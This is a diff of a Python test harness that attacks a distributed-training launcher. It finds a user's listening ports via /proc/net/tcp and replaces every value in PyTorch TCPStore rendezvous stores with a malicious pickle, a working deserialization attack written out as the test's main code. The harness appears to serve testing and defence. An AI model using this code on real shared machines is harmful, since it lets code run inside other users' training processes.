@@ -33,7 +33,7 @@ launcher: torchrun
 model: lenet
 launches: 1
 repeat_disturbed: false
-steps: 200
+steps: 60
 warmup: 0
 gate: false
 """
@@ -73,25 +73,30 @@ def victim(
     project.kill_everything()
 
 
-def listening(user: int) -> list[int]:
-    """Ports on which processes of a user wait for connections."""
+def open_to_all(user: int) -> list[int]:
+    """Ports of a user that listen on every address, as the store of a rendezvous does.
+
+    Gloo's ranks listen on one address; who asks them for a store waits until they end.
+    """
     lines = [
         line.split()
         for name in ("tcp", "tcp6")
         for line in Path(f"/proc/net/{name}").read_text().splitlines()[1:]
     ]
-    return [
-        int(words[1].rpartition(":")[2], 16)
-        for words in lines
-        if (words[3], words[7]) == ("0A", str(user))
-    ]
+    places = [words[1].split(":") for words in lines if listens(words, user)]
+    return [int(port, 16) for address, port in places if not address.strip("0")]
+
+
+def listens(words: list[str], user: int) -> bool:
+    """Whether a line of /proc/net/tcp is a socket of a user that waits for others."""
+    return (words[3], words[7]) == ("0A", str(user))
 
 
 def plant(port: int, place: Path) -> None:
     """Replace each pickle in the store of a rendezvous."""
     from torch.distributed import TCPStore
 
-    patience = timedelta(seconds=3)  # Other servers do not answer.
+    patience = timedelta(seconds=30)
     store = TCPStore("127.0.0.1", port, is_master=False, timeout=patience)
     evil = base64.b64encode(pickle.dumps(Owned(place)))
     for key in store.list_keys():
@@ -123,15 +128,9 @@ def attack(project: Path, place: Path, home: str, out: multiprocessing.Queue) ->
                 continue
     with socket.socket(socket.AF_UNIX) as name:
         name.bind(f"\0rankbench-{user}")
-    reached: list[int] = []
-    tries = 3  # The store may be slow to answer, too.
-    while not reached and (tries := tries - 1) >= 0:
-        for port in listening(user):
-            try:
-                plant(port, place)
-                reached.append(port)
-            except (OSError, RuntimeError):
-                continue
+    reached = open_to_all(user)
+    for port in reached:
+        plant(port, place)
     out.put((done, reached))
 
 
